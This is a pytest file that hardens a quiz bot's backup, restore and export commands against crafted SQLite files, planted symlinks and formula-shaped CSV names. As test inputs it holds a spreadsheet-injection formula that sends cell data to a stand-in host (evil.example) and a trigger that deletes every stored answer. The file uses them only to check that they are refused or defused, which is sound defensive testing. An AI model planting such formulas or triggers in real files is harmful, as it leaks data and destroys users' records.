"""The operations commands against a hostile or careless environment (issue 19): crafted
backups, foreign files, planted symlinks, existing targets and formula-shaped names."""

from __future__ import annotations

import csv
import hashlib
import shutil
import sqlite3
from pathlib import Path

import pytest

from tests.conftest import user_db
from tests.e2e.test_ops_cli import played, played_data, quizbot

__all__ = ["played", "played_data"]  # the fixtures


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def answers(db: Path) -> int:
    conn = sqlite3.connect(db)
    try:
        return int(conn.execute("SELECT COUNT(*) FROM answers").fetchone()[0])
    finally:
        conn.close()


def test_a_backup_carrying_a_trigger_is_refused_and_nothing_is_written(played: Path) -> None:
    assert quizbot(played, "backup", "b.db").returncode == 0
    crafted = sqlite3.connect(played / "b.db")
    crafted.execute("CREATE TRIGGER wipe AFTER INSERT ON sessions BEGIN DELETE FROM answers; END")
    crafted.commit()
    crafted.close()
    live = user_db()
    before = digest(live)

    done = quizbot(played, "restore", "b.db", "--force")
    assert done.returncode == 1
    assert "trigger wipe that quizbot did not create" in done.stderr
    assert "Traceback" not in done.stderr and len(done.stderr.strip().splitlines()) == 1
    assert digest(live) == before and answers(live) == 16
    # and the bot itself still works on the untouched database: a new quiz wipes nothing
    assert quizbot(played, "play", "--user", "cat", stdin="a\n").returncode == 0
    assert answers(live) == 17


def test_a_view_or_extra_column_is_refused_too(played: Path, process_content: Path) -> None:
    assert quizbot(played, "backup", "b.db").returncode == 0
    for n, ddl in enumerate(("CREATE VIEW everyone AS SELECT * FROM users",
                             "ALTER TABLE users ADD COLUMN note TEXT",
                             "CREATE INDEX spy ON answers (chosen)")):
        name = f"b{n}.db"
        shutil.copyfile(played / "b.db", played / name)  # a good backup, then the change
        conn = sqlite3.connect(played / name)
        conn.execute(ddl)
        conn.commit()
        conn.close()
        done = quizbot(played, "restore", name, "--force")
        assert done.returncode == 1 and "its schema is not quizbot's" in done.stderr, done.stderr
        (played / f"c{n}.yaml").write_text(f"storage:\n  url: sqlite:///{name}\n"
                                           f"content:\n  dir: {process_content}\n")
        check = quizbot(played, "check", "--config", f"c{n}.yaml")
        assert check.returncode == 1 and f"FAIL database: {name}: refused" in check.stdout
        stats = quizbot(played, "stats", "--config", f"c{n}.yaml")
        assert stats.returncode == 1 and "Traceback" not in stats.stderr


def test_a_foreign_file_with_schema_migrations_is_refused_on_a_fresh_path(
        tmp_path: Path, process_content: Path) -> None:
    foreign = sqlite3.connect(tmp_path / "theirs.db")
    foreign.executescript(
        "CREATE TABLE schema_migrations (version INTEGER PRIMARY KEY, name TEXT NOT NULL, "
        "applied_at REAL NOT NULL); INSERT INTO schema_migrations VALUES (1, 'x.sql', 0);"
        "CREATE TABLE invoices (id INTEGER PRIMARY KEY);")
    foreign.close()
    done = quizbot(tmp_path, "restore", "theirs.db")
    assert done.returncode == 1 and "migrations quizbot never had" in done.stderr
    assert "Traceback" not in done.stderr
    assert not user_db().exists()  # nothing written, not even a lock

    shutil.copy(tmp_path / "theirs.db", tmp_path / "data.db")
    (tmp_path / "c.yaml").write_text(f"storage:\n  url: sqlite:///data.db\n"
                                     f"content:\n  dir: {process_content}\n")
    check = quizbot(tmp_path, "check", "--config", "c.yaml")
    assert check.returncode == 1 and "FAIL database: data.db: refused:" in check.stdout
    assert "Traceback" not in check.stdout + check.stderr


def test_restore_replaces_the_database_in_one_rename(played: Path) -> None:
    live = user_db()
    assert quizbot(played, "backup", "b.db").returncode == 0
    assert quizbot(played, "play", "--user", "cat", stdin="a\n").returncode == 0
    done = quizbot(played, "restore", "b.db", "--force")
    assert done.returncode == 0, done.stderr
    assert answers(live) == 16 and "newer activity discarded" in done.stdout
    assert sorted(p.name for p in live.parent.iterdir()) == ["quizbot.db"]  # no leftovers
    assert quizbot(played, "play", "--user", "dan", stdin="a\n").returncode == 0
    assert answers(live) == 17


def test_backup_never_follows_a_planted_symlink(played: Path, tmp_path_factory) -> None:
    decoy_dir = tmp_path_factory.mktemp("decoy")
    decoy = decoy_dir / "precious.txt"
    decoy.write_text("keep me")
    (played / ".b.db.partial").symlink_to(decoy)  # the old temporary name
    (played / "link.db").symlink_to(decoy)

    done = quizbot(played, "backup", "b.db")
    assert done.returncode == 0, done.stderr
    assert not (played / "b.db").is_symlink() and answers(played / "b.db") == 16
    for args in (("backup", "link.db"), ("backup", "link.db", "--force")):
        refused = quizbot(played, *args)
        assert refused.returncode == 1 and "is a symbolic link" in refused.stderr
    assert decoy.read_text() == "keep me" and (played / "link.db").is_symlink()
    assert "Traceback" not in refused.stderr

    again = quizbot(played, "backup", "b.db")
    assert again.returncode == 1 and "already exists" in again.stderr
    assert quizbot(played, "backup", "b.db", "--force").returncode == 0
    leftovers = [p.name for p in played.iterdir() if p.name.startswith(".b.db.")
                 and not p.is_symlink()]
    assert leftovers == []


def test_export_output_refuses_existing_files_and_symlinks(played: Path,
                                                           tmp_path_factory) -> None:
    decoy = tmp_path_factory.mktemp("decoy") / "report.csv"
    decoy.write_text("the teacher's own file")
    (played / "link.csv").symlink_to(decoy)
    (played / "mine.csv").write_text("old")

    for name, force in (("link.csv", False), ("link.csv", True), ("mine.csv", False)):
        args = ["export", "--format", "csv", "--output", name] + (["--force"] if force else [])
        done = quizbot(played, *args)
        assert done.returncode == 1, (name, force)
        assert ("is a symbolic link" if name == "link.csv" else "already exists") in done.stderr
    assert decoy.read_text() == "the teacher's own file"
    assert (played / "mine.csv").read_text() == "old"

    done = quizbot(played, "export", "--format", "csv", "--output", "mine.csv", "--force")
    assert done.returncode == 0, done.stderr
    assert (played / "mine.csv").read_text().startswith("platform,user_id,display_name")
    fresh = quizbot(played, "export", "--format", "json", "--output", "new.json")
    assert fresh.returncode == 0 and (played / "new.json").is_file()


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?x="&A1,"click")',
                                  "+1+2", "-2+3", "@SUM(1,1)", "\tTab", "\rReturn"])
def test_csv_export_defuses_formula_shaped_names(played: Path, name: str) -> None:
    db = sqlite3.connect(user_db())
    db.execute("UPDATE users SET display_name = ? WHERE user_id = 'ana'", (name,))
    db.commit()
    db.close()
    done = quizbot(played, "export", "--format", "csv", "--output", "out.csv")
    assert done.returncode == 0, done.stderr
    with (played / "out.csv").open(newline="", encoding="utf-8") as fh:
        names = {r["display_name"] for r in csv.DictReader(fh)}
    assert "'" + name in names
    assert not any(n.startswith(("=", "+", "-", "@", "\t", "\r")) for n in names)


def test_run_and_play_refuse_a_crafted_database_copied_into_place(played: Path,
                                                                  process_content: Path) -> None:
    # a database with a trigger that wipes answers, copied over the live one by hand:
    # restore and check refused it, run and play opened it and the trigger fired
    assert quizbot(played, "backup", "b.db").returncode == 0
    crafted = sqlite3.connect(played / "b.db")
    crafted.execute("CREATE TRIGGER wipe AFTER INSERT ON sessions BEGIN DELETE FROM answers; END")
    crafted.commit()
    crafted.close()
    live = user_db()
    for side in ("-wal", "-shm"):
        Path(f"{live}{side}").unlink(missing_ok=True)
    shutil.copyfile(played / "b.db", live)
    before = digest(live)
    (played / "run.yaml").write_text(f"storage:\n  url: sqlite:///{user_db()}\n"
                                     "telegram:\n  api_base_url: http://127.0.0.1:9/bot\n"
                                     f"content:\n  dir: {process_content}\n"
                                     "startup_timeout: 1\n")
    check = quizbot(played, "check", "--config", "run.yaml")
    assert check.returncode == 1 and "trigger wipe that quizbot did not create" in check.stdout
    for args, env in ((("run", "--config", "run.yaml"), {"TELEGRAM_BOT_TOKEN": "1:x"}),
                      (("play", "--config", "run.yaml", "--user", "cat"), {})):
        done = quizbot(played, *args, stdin="a\n", env=env)
        assert done.returncode == 1, (args, done.stderr)
        [line] = done.stderr.strip().splitlines()
        assert line.startswith("quizbot: Refusing to open ") and \
            "its schema is not quizbot's (has trigger wipe that quizbot did not create)" \
            in line, line
        assert digest(live) == before and answers(live) == 16  # nothing written
        assert not Path(f"{live}-wal").exists() and not Path(f"{live}-shm").exists()
